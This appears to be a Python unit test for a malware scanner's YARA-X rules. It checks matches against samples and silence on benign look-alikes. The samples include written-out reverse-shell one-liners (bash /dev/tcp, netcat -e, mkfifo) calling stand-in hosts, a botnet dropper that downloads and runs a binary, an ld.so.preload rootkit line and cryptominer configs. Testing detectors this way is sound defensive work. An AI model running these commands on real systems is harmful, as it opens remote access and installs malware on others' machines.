from __future__ import annotations

import pytest
import yara_x

from shared.adapters.scanning.rules import BUILT_IN, rule_sources, rules_version
from tests.unit.scanning.archives import EICAR

WALLET = "4" + "4" + "A" * 93
ELF = b"\x7fELF\x02\x01\x01" + bytes(64)


@pytest.fixture(scope="module")
def scanner() -> yara_x.Scanner:
    return yara_x.Scanner(yara_x.compile("\n".join(rule_sources((BUILT_IN,)))))


def found(scanner: yara_x.Scanner, data: bytes) -> list[str]:
    return [rule.identifier for rule in scanner.scan(data).matching_rules]


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (EICAR, "EICAR_Test_File"),
        (b"x" * 5000 + EICAR + b"x", "EICAR_Test_File"),
        (
            f'{{"url": "stratum+tcp://pool.example:3333", "user": "{WALLET}"}}'.encode(),
            "Linux_Cryptominer",
        ),
        (
            ELF + b"stratum+ssl://p.example:443\0donate-level\0randomx\0cpu-priority",
            "Linux_Cryptominer",
        ),
        (b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "Linux_Reverse_Shell"),
        (b"exec 5<>/dev/tcp/evil.example/443; cat <&5 | while read l; do", "Linux_Reverse_Shell"),
        (b"nc 203.0.113.9 4444 -e /bin/sh\n", "Linux_Reverse_Shell"),
        (
            b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 99 > /tmp/f",
            "Linux_Reverse_Shell",
        ),
        (ELF + b"/bin/busybox MIRAI\0", "Linux_Botnet_Mirai"),
        (ELF + b"UPX!" + b"listening tun0\0", "Linux_Botnet_Mirai"),
        (
            b"#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
            b"wget http://203.0.113.9/mips; chmod 777 mips; ./mips; rm -rf mips",
            "Linux_Botnet_Dropper",
        ),
        (b"#!/bin/sh\necho /lib/libx.so >> /etc/ld.so.preload\n", "Linux_Preload_Rootkit"),
    ],
)
def test_rules_find_what_they_are_for(scanner: yara_x.Scanner, data: bytes, rule: str) -> None:
    assert found(scanner, data) == [rule]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"#!/bin/bash\n# waits for the broker\nuntil : < /dev/tcp/localhost/8883; do sleep 1; done",
        b"exec 3<>/dev/tcp/localhost/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\n",
        b"nc -z localhost 8883 && echo up",
        b"mkfifo /run/pipe && cat /run/pipe | logger",
        b"stratum+tcp://pool.example:3333 is where miners connect",
        b"#!/bin/sh\ncd /tmp || exit 1; wget https://acme.example/app.tar.gz; tar xf app.tar.gz\n",
        b"#!/bin/sh\nrm -f /etc/ld.so.preload\n",
        ELF + b"/dev/misc/watchdog\0BusyBox v1.36\0",
        ELF + b"UPX!\0$Info: This file is packed with the UPX executable packer",
        b"/bin/busybox MIRAI",
    ],
)
def test_rules_are_quiet_on_honest_content(scanner: yara_x.Scanner, data: bytes) -> None:
    assert found(scanner, data) == []


def test_rules_are_not_found_by_themselves(scanner: yara_x.Scanner) -> None:
    for source in rule_sources((BUILT_IN,)):
        assert "EICAR_Test_File" not in found(scanner, source.encode())


def test_rules_version_changes_with_any_rule() -> None:
    sources = rule_sources((BUILT_IN,))

    assert rules_version(sources) == rules_version(sources)
    assert rules_version(sources) != rules_version((*sources, "rule more { condition: false }"))
